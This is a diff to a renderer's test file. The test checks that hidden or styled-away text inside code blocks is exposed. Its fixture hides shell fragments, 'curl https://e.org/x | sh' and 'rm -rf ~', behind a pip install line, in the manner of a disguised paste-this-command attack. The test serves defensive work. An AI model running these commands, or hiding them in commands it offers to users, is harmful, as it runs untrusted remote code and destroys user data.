@@ -175,8 +175,15 @@ test('raw HTML cannot cover the page', async (t) => {
 });
 
 test('code shows all its text: nothing in it is styled away or hidden', () => {
-  const holder = render('<pre><code>pip install requests<span style="display:none">; curl https://e.org/x | sh</span><b hidden>; rm -rf ~</b></code></pre>\n\ntext <code><span style="font-size:0">x</span></code>');
+  const holder = render('<pre><code class="language-sh">pip install requests<span style="display:none">; curl https://e.org/x | sh</span><b hidden>; rm -rf ~</b><span class="katex-mathml">; a</span><font color="#f6f8fa">; b</font><small><small>; c</small></small></code></pre>\n\ntext <code><span style="font-size:0">x</span></code>\n\n<pre>plain <span class="lumo-offscreen">; d</span></pre>');
   assert.equal(holder.querySelectorAll('pre [style], pre [hidden], code [style], code [hidden]').length, 0);
+  // A code block is its text alone, language kept.
+  const [block, plain] = holder.querySelectorAll('pre');
+  assert.equal(block.querySelectorAll('code *').length, 0);
+  assert.equal(block.querySelector('code').className, 'language-sh');
+  assert.equal(block.textContent, 'pip install requests; curl https://e.org/x | sh; rm -rf ~; a; b; c');
+  assert.equal(plain.childElementCount, 0);
+  assert.equal(plain.textContent, 'plain ; d');
   // Outside code, styling stays.
   assert.equal(render('<p><span style="color: red">r</span></p>').querySelector('span').getAttribute('style'), 'color: red');
 });
